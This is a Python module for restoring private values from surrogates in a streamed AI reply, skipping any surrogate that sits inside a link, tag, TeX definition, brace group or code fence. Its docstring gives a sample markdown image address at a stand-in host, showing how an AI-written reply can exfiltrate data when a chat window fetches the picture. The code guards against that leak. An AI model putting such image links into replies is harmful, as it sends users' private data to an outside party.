"""Putting private values back into a reply that may come in pieces, on the owner's side only.

The way back of a private map: a surrogate that stands alone, whatever its case, becomes the value it was drawn for.
What might still become a surrogate is held back until the next piece; nothing else waits.

The vendor writes the reply, and a chat window fetches pictures: `![](https://elsewhere.example/?ID-00017)` would send
a private value to whoever wrote it. What an address is, differs from window to window; so a surrogate is restored only
where no window can take it for a part of one: between white space (of ASCII, the only one that ends an address), but
for quotes, brackets and emphasis before it and punctuation after it; and not in what `_Surroundings` leaves alone.
"""

from __future__ import annotations

import re
from collections.abc import Mapping

__all__ = ["Restorer"]

_SPACE = frozenset(" \t\n\r\f\v")
_OPENING = frozenset("\"'“‘«„(*_`~")
_CLOSING = frozenset(".,;:!?)\"'”’»*_`~…")
_FENCE = 3  # as many make one
_DEFINING = re.compile("def|let|new|declare|provide|require|csname|catcode|expand|input|include", re.IGNORECASE)
_LONGEST_NAME = 40  # as far back as such a name is looked for
_LONGEST_LINE = 200  # a longer one is no fence alone
_ALONE = re.compile(r" {0,3}(`{3,}|~{3,}|:{3,})[ \t\r]*\n")


class Restorer:
    """Restores one reply.

    Args:
        originals: Surrogate, in lower case, to private value.

    Example:
        >>> restorer = Restorer({"id-00017": "B-4711"})
        >>> restorer.feed("See ID-000"), restorer.feed("17, not ID-000170."), restorer.close()
        ('See ', 'B-4711, not ID-000170.', '')
    """

    def __init__(self, originals: Mapping[str, str]) -> None:
        self._originals = dict(originals)
        self._beginnings = {surrogate[:n] for surrogate in originals for n in range(1, len(surrogate) + 1)}
        self._held = ""
        self._around = _Surroundings()

    def feed(self, piece: str) -> str:
        """Return what can be said for sure once this piece is there."""
        return self._advance(self._held + piece, last=False)

    def close(self) -> str:
        """Return the rest: the reply has ended."""
        return self._advance(self._held, last=True)

    def _advance(self, text: str, *, last: bool) -> str:
        said, place = list[str](), 0
        while place < len(text):
            end = self._end(text, place, last=last)
            if end is None:
                break
            if end > place:
                said.append(self._originals[text[place:end].lower()])
                self._around.pass_surrogate()
                place = end
            else:
                said.append(text[place])
                self._around.pass_character(text[place])
                place += 1
        self._held = text[place:]
        return "".join(said)

    def _end(self, text: str, start: int, *, last: bool) -> int | None:
        """Return where the longest surrogate ends that stands here, its start if none does, None if that is open."""
        if not self._around.open:
            return start
        end = start
        while end < len(text) and text[start : end + 1].lower() in self._beginnings:
            end += 1
        if end == len(text) and not last:
            return None
        for longest in range(end, start, -1):
            if text[start:longest].lower() in self._originals:
                stands = _ends_well(text, longest, quoted=self._around.quoted, last=last)
                if stands is not False:
                    return longest if stands else None
        return start


class _Surroundings:
    r"""What has come before a place in a reply, as far as it may be an address or a drawing that fetches one.

    Windows differ, so each of these lasts as long as in the one that sees it longest:

        <                  to the end of the line: an address in it may hold spaces
        <name, </, <!, <?  for ever: what may be a tag, whose attributes may hold anything
        ](                 to the end of the line, or of the one on which its parentheses close: some windows let spaces
                           into an address there
        ]:                 to the end of the line on which more follows: the address that a picture elsewhere refers to
        {                  to its "}", but for what stands alone in double quotes: Markdown's attributes; after \name,
                           without exception: formulas have links and pictures
        \def, \let, \new...  for ever: such names read their arguments as they like
        ``` ~~~ :::        to a line of nothing but as many or more of them, indented by three spaces at most: windows
                           draw diagrams from such blocks; no line of that form begins one of a named language
    """

    def __init__(self) -> None:
        self._plain = True  # since white space, nothing has come but what may stand before a surrogate
        self._angle = self._tag = self._command = False
        self._target: int | None = None  # parentheses open since "]("
        self._name = ""  # letters behind a backslash
        self._definition = self._defined = False  # after "]:", and whether more than white space has followed
        self._braces = 0
        self._fences = dict[str, int]()  # character -> how many of them end the block
        self._begun = dict[str, int]()  # the same of this line
        self._line = ""
        self._before, self._run = "", 0  # the character before this place, and how often it stands there

    @property
    def open(self) -> bool:
        """Whether a surrogate that stands here may be restored."""
        linked = self._tag or self._angle or self._target is not None or self._definition
        inside = self._fences or self._begun or (self._braces and (self._command or self._before != '"'))
        return self._plain and not (linked or inside)

    @property
    def quoted(self) -> bool:
        """Whether it must be followed by a double quote, too."""
        return self._braces > 0

    def pass_surrogate(self) -> None:
        """Go past a surrogate that was restored."""
        self._plain, self._before, self._run, self._line = False, "", 0, "x"

    def pass_character(self, character: str) -> None:
        """Go past a character that stays."""
        before = self._before
        self._run = self._run + 1 if character == before else 1
        if before == "<" and (character.isalpha() or character in "/!?"):
            self._tag = True
        self._name = self._name + character if (self._name or before == "\\") and character.isalpha() else ""
        self._command = self._command or bool(self._name)
        self._tag = self._tag or _DEFINING.search(self._name[-_LONGEST_NAME:]) is not None
        self._line += character if len(self._line) < _LONGEST_LINE else ""
        self._angle = character == "<" or (self._angle and character != "\n")
        if before == "]" and character == "(" and self._target is None:
            self._target = 1
        elif self._target is not None:
            self._target += (character == "(") - (character == ")" and before != "\\")
        self._braces = max(0, self._braces + (character == "{") - (character == "}" and before != "\\"))
        if character in "`~:" and self._run >= _FENCE:
            self._begun[character] = max(self._begun.get(character, 0), self._run)
        self._defined = self._definition and (self._defined or character not in _SPACE)
        self._definition = (before == "]" and character == ":") or self._definition
        if character == "\n":
            self._end_line()
            self._definition = self._definition and not self._defined
            self._target = None if self._target is not None and self._target <= 0 else self._target
        self._plain = character in _SPACE or (self._plain and character in _OPENING)
        self._before = character

    def _end_line(self) -> None:
        """A line that is a fence and nothing else ends a block; any other that holds one may begin one."""
        alone = _ALONE.fullmatch(self._line)
        fence = alone[1] if alone else ""
        if fence and len(fence) >= self._fences.get(fence[0], len(fence) + 1):
            del self._fences[fence[0]]
        else:
            self._fences |= {each: max(many, self._fences.get(each, 0)) for each, many in self._begun.items()}
        self._begun, self._line = {}, ""


def _ends_well(text: str, end: int, *, quoted: bool, last: bool) -> bool | None:
    """Whether only punctuation, or a genitive s, stands between a surrogate's end and white space; None if unknown."""
    if quoted and text[end : end + 1] != '"':
        return None if end == len(text) and not last else False
    if text[end : end + 2].lower() in ("'s", "’s"):
        end += 2
    while end < len(text) and text[end] in _CLOSING:
        end += 1
    if end == len(text):
        return True if last else None
    return text[end] in _SPACE
